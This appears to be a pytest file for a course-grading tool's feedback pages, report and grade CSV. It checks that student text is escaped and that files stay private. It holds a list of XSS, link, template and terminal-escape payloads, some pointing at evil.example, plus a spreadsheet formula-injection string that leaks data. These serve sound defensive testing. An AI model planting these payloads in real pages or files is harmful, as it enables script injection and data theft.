"""Feedback and report: what they say, what they never say, and what no text can do to them."""

import csv
import os
import shutil
import statistics
import sys
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import numpy as np
import pytest
import samples
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import sync_playwright
from samples import LAB, NOTES, TITLE, a_grade, a_submission, not_run

from dllab.grading.course import Course
from dllab.grading.feedback import feedback_page, safe_name, write_feedback
from dllab.grading.gradebook import FinalMark, Gradebook, MarkStep
from dllab.grading.measures import discrimination, histogram, share
from dllab.grading.pages import one_line, render, set_code, web_link
from dllab.grading.policy import Adjustment, apply, settle
from dllab.grading.records import Repair
from dllab.grading.report import COLUMNS, report_page, write_csv, write_report

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": '"\'><img src=x onerror=alert(1)> onload="alert(1)',
    "entity": "&lt;script&gt; &#x3c;script&#x3e; &amp;",
    "comment": "--> <!-- ]]> <![CDATA[ <?php",
    "closes": "</style></title></svg></main></body></html><base href=//evil.example>",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7}",
    "link": "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "svg": "<svg onload=alert(1)><use href='https://evil.example#x'>",
    "null": "a\x00b\ufffe\uffff\udcff",
    "ansi": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "zero-width": "a\u200bb\ufeffc\u00add",
    "zalgo": "Z" + "\u0335" * 500,
    "long": "x" * 10_000_000,
    "newlines": "\n" * 5000 + "\r\n\u2028\u2029\x85",
}


class Outline(HTMLParser):
    """A page's elements with their attributes, and its text."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.elements, self.text = [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))
        if tag not in ("code", "strong", "span", "bdi", "a"):
            self.text.append(" ")

    def handle_data(self, data):
        self.text.append(data)

    @property
    def tags(self):
        return [tag for tag, _ in self.elements]

    def __contains__(self, words):
        return words in " ".join("".join(self.text).split())


def _filled_with(text):
    """Return a grade that has a text wherever a student's or a file's text may end up."""
    grade = a_grade(f"ada{text}", 1.1)
    note = replace(NOTES["sum"], sentence=f"You wrote {text}", link=text)
    tests = tuple(
        replace(test, status="failed", sentence=f"It says {text}", misconception=note)
        for test in grade.tasks[1].tests
    )
    task = replace(grade.tasks[1], title=f"Task {text}", tests=tests)
    return replace(
        grade,
        tasks=(task,),
        problems=(f"Cell 1 stopped: {text}",),
        repairs=(Repair("links", f"We found {text}", 3),),
        reason=f"Because {text}",
        status="partly graded",
    )


def _mark(grade, *steps):
    final = grade.earned + sum(step.amount for step in steps)
    return FinalMark(
        grade.student, LAB, 1, grade.status, "", grade.earned, grade.points, final, steps=steps
    )


def _both_pages(text, tmp_path):
    grade = _filled_with(text)
    step = MarkStep("adjustment", -1.0, f"Talk {text}", f"prof {text}")
    course = Course(title=f"Course {text}")
    yield feedback_page(grade, _mark(grade, step), course, title=f"Lab {text}")
    text = text[:200_000]  # the gradebook keeps it several times
    grade = _filled_with(text)
    with Gradebook(tmp_path / "gradebook.sqlite") as book:
        options = {"path": text}
        book.start_run(
            LAB, fingerprint="f", seed=1, options=options, sandbox=text[:5000], title=text[:5000]
        )
        submission = replace(a_submission(grade.student), origin=text[:5000])
        for number in range(2):
            book.add(replace(grade, student=f"{grade.student}{number}"), submission)
        row = Adjustment(f"{grade.student}0", LAB, f"why {text}", text[:5000], change=-1)
        yield report_page(book, LAB, settle(book, LAB, course, (), [row], who=text), course)


# what no text can do


@pytest.fixture(scope="module")
def plain_tags(tmp_path_factory):
    """The elements of both pages where every text is harmless."""
    folder = tmp_path_factory.mktemp("plain")
    return [Outline(page).tags for page in _both_pages("x", folder)]


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_text_becomes_anything_but_text(tmp_path, plain_tags, kind):
    """Whatever a student writes, the page has the same elements as with harmless words."""
    for page, expected in zip(_both_pages(HOSTILE[kind], tmp_path), plain_tags, strict=True):
        outline = Outline(page)
        assert outline.tags == expected
        _assert_harmless(outline)
        assert len(page) < 100_000
        text = "".join(outline.text)
        assert not any(letter in text for letter in "\x00\x1b\x07\u202e\u2066\u200f\ufeff\u2028")


def _assert_harmless(outline):
    for tag, attributes in outline.elements:
        assert tag not in {"script", "img", "iframe", "object", "embed", "link", "base", "form"}
        assert not any(name.startswith("on") for name in attributes)
        assert not {"src", "srcset", "xlink:href"} & attributes.keys()
        address = attributes.get("href", "#")
        assert address.startswith(("https://example.org/", "#", "feedback/"))
        if tag == "meta" and "http-equiv" in attributes:
            assert attributes["http-equiv"] == "Content-Security-Policy"
            assert attributes["content"].startswith(
                "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
            )


@given(st.text(), st.integers(1, 50))
def test_text_is_one_line_of_a_bounded_length(text, limit):
    """No text is longer than its limit by more than the pictures of its characters."""
    shown = one_line(text, limit)
    assert len(shown) <= 10 * limit + 2
    assert "\n" not in shown
    assert shown == shown.strip() or limit == 1
    assert "<" not in set_code(text, limit).replace("<code>", "").replace("</code>", "")


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "file:///etc/passwd",
        "https:evil",
        "http://[",
        "vbscript:x",
        "https://a b",
        "https://" + "x" * 3000,
    ],
)
def test_only_addresses_of_the_web_become_links(address):
    """A link is http or https with a host, or no link at all."""
    assert web_link(address) == ""


def test_ordinary_names_stay_as_they_are():
    """Emoji, joiners and right-to-left names are names, not attacks."""
    for name in ("Zoë O'Neil", "محمد", "明", "👩‍💻 x", "क्षि"):
        assert one_line(name) == name


# what feedback says


def test_feedback_tells_score_tasks_sentence_and_misconception():
    """A student reads what passed, what did not, why, what is true and where to read on."""
    grade = a_grade("ada", 0.7, repairs=samples.REPAIRS[:2], problems=("Cell 7 stopped.",))
    page = feedback_page(grade, title=TITLE)
    outline = Outline(page)
    assert f"{grade.earned} of 20 points" in outline
    for task in grade.tasks:
        assert f"{task.title} {task.earned} of {task.points}" in outline
        for test in task.tests:
            assert test.law.replace("`", "") in outline
            assert not test.sentence or test.sentence.replace("`", "") in outline
    notes = {test.misconception for task in grade.tasks for test in task.tests} - {None}
    assert notes
    for note in notes:
        assert note.title in outline
        assert note.right.replace("`", "") in outline
        assert not note.link or ("a", note.link) in [
            (tag, attributes.get("href")) for tag, attributes in outline.elements
        ]
    assert "Cell 7 stopped." in outline
    assert "We read your file as Latin-1" in outline
    assert "(code cell 3)" in outline


def test_a_misconception_is_explained_once_in_a_task_or_not_at_all():
    """Two checks with the same mistake explain it once; a course may leave explanations out."""
    grade = _filled_with("x")
    title = NOTES["sum"].title
    assert feedback_page(grade).count(f"<strong>{title}.") == 1
    assert title not in feedback_page(grade, course=Course(show_misconceptions=False))


def test_feedback_tells_how_the_mark_came_about():
    """Penalty and adjustments stand there with reasons, and add up to the mark."""
    grade = a_grade()
    mark = _mark(
        grade, MarkStep("late", -4.0, "two days"), MarkStep("adjustment", 1.5, "a talk", "prof")
    )
    outline = Outline(feedback_page(grade, mark))
    assert "Earned by the checks 20" in outline
    assert "17.5 of 20 points" in outline
    assert "Late: two days" in outline
    assert "Adjustment: a talk (prof)" in outline
    assert "−4" in outline
    assert "+1.5" in outline


@pytest.mark.parametrize("status", ["unreadable", "failed", "partly graded"])
def test_what_was_not_graded_says_what_to_do(status):
    """A student whose work could not be judged reads why, if it is theirs, and what to do next."""
    grade = not_run(a_grade(), status, "It is a picture of a notebook.")
    outline = Outline(feedback_page(grade))
    assert "What to do next" in outline
    assert ("picture of a notebook" in outline) == (status != "failed")
    assert ("Slopes of four operations" in outline) == (status == "partly graded")


def test_feedback_holds_nothing_that_is_not_the_students(tmp_path):
    """No seed, digest, fingerprint, sandbox, path of this machine or other student's name."""
    own = Path(samples.ROOT)
    grade = a_grade(
        "ada",
        1.1,
        problems=(f"Cell 1: no file {own}/data.csv", f"Cell 2: {sys.prefix}/lib/x.py failed"),
        reason=f"see {Path.home()}/log",
        status="partly graded",
    )
    page = feedback_page(grade, _mark(grade))
    hidden = [str(grade.seed), grade.digest, grade.fingerprint, grade.sandbox, str(own)]
    hidden += [sys.prefix, str(Path.home()), "test_products", "whitfield"]
    assert [words for words in hidden if words in page] == []
    assert "no file …/data.csv" in page


def test_many_problems_are_counted_not_listed():
    """A notebook of a thousand broken cells has a page that can be read."""
    grade = a_grade(problems=tuple(f"Cell {n} stopped." for n in range(1000)))
    outline = Outline(feedback_page(grade))
    assert "Cell 19 stopped." in outline
    assert "Cell 20 stopped." not in outline
    assert "and 980 more" in outline


def test_a_template_that_lacks_a_value_is_an_error():
    """A forgotten value never becomes an empty place in somebody's feedback."""
    from jinja2 import UndefinedError

    with pytest.raises(UndefinedError):
        render("feedback.html", course=Course(), title="x")


@given(st.text(max_size=80), st.text(max_size=80))
def test_each_student_has_a_file_of_their_own(first, second):
    """File names are portable, stay in their folder, and two students never share one."""
    names = [safe_name(first), safe_name(second)]
    for name in names:
        assert 0 < len(os.fsencode(name + ".html")) <= 255
        assert not set(name) & set('/\\:*?"<>|\0\n ')
        assert name[0] not in ".-_"
    assert (names[0].casefold() == names[1].casefold()) == (first == second)


def test_feedback_lies_in_its_folder_for_its_owner(tmp_path):
    """A name that is a path goes nowhere else, and nobody else may read the page."""
    path = write_feedback(tmp_path, a_grade("../../etc/passwd"))
    assert path.parent == tmp_path / "feedback"
    assert path.stat().st_mode & 0o777 == 0o600
    assert [file.name for file in tmp_path.iterdir()] == ["feedback"]


# what the report says


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    """A folder with the report, the table and all feedback of a class."""
    folder = tmp_path_factory.mktemp("class")
    rules = folder / "course.toml"
    rules.write_text(
        '[course]\ntitle = "Deep learning"\ntimezone = "Europe/Berlin"\nrounding = 0.5\n'
        '[late]\ndeadline = 2026-11-02T23:59:00\npenalty = "10 %"\n'
    )
    from dllab.grading.policy import read_course

    course = read_course(rules)
    row = Adjustment("ada", LAB, "Oral check", "prof", change=-1)
    with samples.filled(folder) as book:
        settle(book, LAB, course)
        settlement = settle(book, LAB, course, (), [row, replace(row, student="adda")])
        for entry, mark in zip(book.entries(LAB), settlement.marks, strict=True):
            write_feedback(folder, entry.grade, mark, course, title=TITLE)
        write_report(folder, book, LAB, settlement, course)
        write_csv(folder, settlement.marks)
    return folder


def test_the_report_tells_what_needs_a_person(out):
    """Every status is counted; whom a person must look at is listed with the reason."""
    outline = Outline((out / "report.html").read_text())
    for words in ("30 submissions", "27 graded", "1 unreadable", "1 failed", "1 partly graded"):
        assert words in outline
    assert "jean unreadable The file is a PDF, not a notebook." in outline
    assert "nobody called 'adda' has handed in: did you mean 'ada'?" in outline
    assert "They count as on time: edsger." in outline
    assert "shafi, tim (18 of 20 points)" in outline
    assert "20 19 adjustment -1: Oral check (prof)" in outline
    assert "weight-gradient-transposed" not in outline
    assert str(samples.SEED) not in (out / "report.html").read_text()


def test_the_report_links_to_feedback_that_exists(out):
    """Each student's row leads to the page of that student."""
    from urllib.parse import unquote

    elements = Outline((out / "report.html").read_text()).elements
    links = {unquote(a["href"]) for tag, a in elements if tag == "a" and "feedback" in a["href"]}
    assert len(links) == 30
    assert all((out / link).is_file() for link in links)


def test_the_histogram_has_its_numbers_as_text(out):
    """The picture has a title and a description, and a table with every bar."""
    outline = Outline((out / "report.html").read_text())
    assert outline.tags.count("rect") == 10
    assert {"title", "desc"} <= set(outline.tags)
    with (out / "grades.csv").open(newline="") as file:
        finals = [float(row["final"]) for row in csv.DictReader(file) if row["status"] == "graded"]
    counts = histogram(finals, 20, 10)
    for index, count in enumerate(counts):
        assert f"{2 * index} to {'under ' if index < 9 else ''}{2 * index + 2} {count}" in outline


@pytest.mark.parametrize("students", [0, 1, 2])
def test_a_class_of_nobody_or_few_has_a_report(tmp_path, students):
    """Where a number is not defined the report says so."""
    with Gradebook(tmp_path / "gradebook.sqlite") as book:
        for number in range(students):
            book.add(a_grade(str(number)))
        outline = Outline(report_page(book, LAB))
    assert f"{students} submissions" in outline
    assert ("n/a" in outline) == (students > 0)


def test_grades_csv_has_a_row_for_each_student(out):
    """The table can be read by any CSV reader, and its marks are those of the gradebook."""
    with (out / "grades.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0]) == COLUMNS
    with Gradebook(out / "gradebook.sqlite", write=False) as book:
        marks = {mark.student: mark for mark in book.marks(LAB)}
    assert {row["student"] for row in rows} == marks.keys()
    for row in rows:
        mark = marks[row["student"]]
        assert float(row["final"]) == mark.final
        assert (int(row["earned"]), row["status"]) == (mark.earned, mark.status)


@pytest.mark.parametrize("first", "=+-@\t＝")
def test_no_cell_is_a_formula(tmp_path, first):
    """A name or reason that a spreadsheet would run has an apostrophe in front."""
    text = f'{first}HYPERLINK("https://evil.example?"&A1)'
    mark = replace(_mark(a_grade()), student=text, reason=text, late=-2.0)
    path = write_csv(tmp_path, [mark, replace(mark, student=f"a\n{text}\r\n;\",'")])
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["student"] == f"'{text}"
    assert rows[0]["reason"].startswith(("'", "HYPER"))
    assert float(rows[0]["late"]) == -2
    assert len(rows) == 2


# statistics


def test_discrimination_agrees_with_a_computation_by_hand():
    """Two of four pass, with 3 and 5 points elsewhere against 1 and 3: r = 1 / sqrt(2)."""
    # means 4 and 2, standard deviation of 1, 3, 3, 5 is sqrt(2), so r = (4 - 2) / sqrt(2) * 0.5
    r = discrimination([False, False, True, True], [1, 3, 3, 5])
    assert r == pytest.approx(2 / np.sqrt(2) * 0.5)


@given(st.lists(st.tuples(st.booleans(), st.integers(0, 18)), min_size=2, max_size=30))
def test_discrimination_is_the_correlation_coefficient(pairs):
    """It is numpy's coefficient where that is defined, and None where it is not."""
    passed, rest = zip(*pairs, strict=True)
    result = discrimination(passed, rest)
    if len(set(passed)) < 2 or len(set(rest)) < 2:
        assert result is None
    else:
        assert result == pytest.approx(np.corrcoef(np.array(passed, float), rest)[0, 1], abs=1e-9)
        assert -1 <= result <= 1


@given(st.lists(st.floats(0, 20), max_size=50), st.integers(1, 12))
def test_each_value_is_in_one_bar(values, bins):
    """Bars count every value once, and agree with numpy's away from their edges."""
    counts = histogram(values, 20, bins)
    assert sum(counts) == len(values)
    middle = [(np.floor(value * bins / 20) + 0.5) * 20 / bins for value in values]
    inside = [value for value in middle if value < 20]
    assert histogram(inside, 20, bins) == np.histogram(inside, bins, (0, 20))[0].tolist()


def test_shares_are_of_those_for_whom_a_check_ran(tmp_path):
    """A student whose check did not run is neither right nor wrong."""
    assert share([]) is None
    with Gradebook(tmp_path / "gradebook.sqlite") as book:
        book.add(a_grade("a"))
        book.add(a_grade("b", 0))
        book.add(not_run(a_grade("c"), "partly graded", "Time ran out."))
        marks = apply(Course(), book.entries(LAB))
        outline = Outline(report_page(book, LAB))
    assert "50 % 1" in outline
    assert statistics.fmean(mark.final for mark in marks) == pytest.approx(20 / 3)


# in a browser

AXE = (samples.ROOT / "tests/browser/vendor/axe.min.js").read_text(encoding="utf-8")
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
PAGES = (
    "report.html",
    *(f"feedback/{safe_name(name)}.html" for name in ("claude", "jean", "Håkon Å", "radia")),
    "hostile.html",
)


@pytest.fixture(scope="module")
def browser():
    """Chromium without a network."""
    if not Path(CHROMIUM).exists():
        pytest.fail("Chromium is missing: run `tools/system_packages.sh chromium`")
    sandbox = ["--no-sandbox"] if os.geteuid() == 0 else []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=sandbox)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def site(out, tmp_path_factory):
    """The folder of the class, with one page that is full of hostile text."""
    text = " ".join(text[:3000] for text in HOSTILE.values())
    feedback, report = _both_pages(text, tmp_path_factory.mktemp("hostile"))
    (out / "hostile.html").write_text(feedback, "utf-8", "replace")
    (out / "hostile-report.html").write_text(report, "utf-8", "replace")
    return out


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", [*PAGES, "hostile-report.html"])
def test_pages_are_accessible_fit_a_phone_and_are_silent(browser, site, name, scheme):
    """In light and dark: axe finds nothing, nothing scrolls sideways, nothing loads or fails."""
    context = browser.new_context(color_scheme=scheme, bypass_csp=True)
    page = context.new_page()
    faults = []
    page.on("console", lambda message: faults.append(message.text))
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("request", lambda request: faults.append(request.url))
    page.goto((site / name).as_uri())
    assert faults == [(site / name).as_uri()]
    page.eval_on_selector_all("details", "nodes => nodes.forEach(node => { node.open = true })")
    for width in (360, 1280):
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.evaluate(AXE)
    found = page.evaluate("axe.run({resultTypes: ['violations']}).then(r => r.violations)")
    assert [(fault["id"], fault["nodes"][0]["html"]) for fault in found] == []
    context.close()


def test_the_policy_of_a_page_stops_scripts(browser, site):
    """Even a script that got into a page would not run, and nothing would be loaded."""
    page = browser.new_page()
    text = (site / "feedback" / "ada.html").read_text()
    inserted = '<script>document.title = "ran"</script><img src="https://example.org/x.png">'
    (site / "broken.html").write_text(text.replace("</main>", f"{inserted}</main>"))
    messages = []
    page.on("console", lambda message: messages.append(message.text))
    page.goto((site / "broken.html").as_uri())
    assert page.title() != "ran"
    assert sum("Content Security Policy" in message for message in messages) == 2
    page.close()


def test_pages_print_without_what_only_a_screen_needs(browser, site):
    """On paper, the menu is gone and wide tables do not hide behind a scroll bar."""
    page = browser.new_page()
    page.emulate_media(media="print")
    page.goto((site / "report.html").as_uri())
    assert page.locator("nav").is_hidden()
    overflow = "nodes => nodes.map(node => getComputedStyle(node).overflowX)"
    assert set(page.eval_on_selector_all(".scroll", overflow)) == {"visible"}
    page.close()


@pytest.mark.parametrize("name", ["report.html", "feedback/ada.html"])
def test_headings_are_in_order(out, name):
    """One first heading, no level left out, one main landmark, and the language is stated."""
    outline = Outline((out / name).read_text())
    levels = [int(tag[1]) for tag in outline.tags if tag in ("h1", "h2", "h3", "h4")]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    assert outline.tags.count("main") == 1
    assert outline.elements[0] == ("html", {"lang": "en"})
